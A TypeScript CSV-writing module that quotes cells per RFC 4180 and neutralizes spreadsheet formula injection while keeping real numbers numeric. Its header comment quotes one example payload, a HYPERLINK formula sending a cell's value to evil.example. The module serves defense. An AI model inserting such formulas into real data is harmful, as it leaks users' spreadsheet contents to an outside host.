// CSV as RFC 4180 writes it: comma-separated, CRLF-ended, a cell quoted when it holds a quote,
// a comma or a line break. Objects (JSON columns) are written as JSON. Every CSV Steward writes
// goes through here.
//
// Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`,
// `+`, `-` or `@` as a formula (and a leading tab or carriage return can hide one), so a
// customer who names their account `=HYPERLINK("https://evil.example?"&A1,"Open")` would run
// it on the admin's machine when the export is opened. Such a cell is written with a single
// quote in front, which spreadsheets show as text and do not evaluate; so is a text that starts
// with quotes before such a character, and Steward's CSV import takes that one quote off again,
// so an export imports back unchanged (src/lib/csvFormula.ts).
//
// Real negative numbers must stay numbers, so the rule follows the column's type:
// - a value that is a JavaScript number is a number column of the database (integers and
//   numerics are read as numbers, src/db/connect.ts): written as it is, never prefixed;
// - a column the writer declares `number` (money in major units, "-120.50", written as text so
//   no floating point creeps in) is written as it is when the cell is exactly a decimal number,
//   and neutralized like text otherwise — a hostile string cannot pass as a number;
// - everything else is text: neutralized whenever it starts with one of those characters,
//   even "-5" (in a text column it is a word, not an amount).
import { guardFormula } from '../../lib/csvFormula.ts';

export type CsvColumnType = 'text' | 'number';

const decimal = /^-?\d+(\.\d+)?$/;

export function csvCell(value: unknown, type: CsvColumnType = 'text'): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number' || typeof value === 'bigint') return quoted(String(value));
  const text =
    value instanceof Date
      ? value.toISOString()
      : typeof value === 'object'
        ? JSON.stringify(value)
        : String(value);
  const number = type === 'number' && decimal.test(text);
  return quoted(number ? text : guardFormula(text));
}

function quoted(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One line: each cell by its column's type (`text` where `types` says nothing). */
export const csvLine = (cells: readonly unknown[], types: readonly CsvColumnType[] = []) =>
  `${cells.map((cell, i) => csvCell(cell, types[i] ?? 'text')).join(',')}\r\n`;
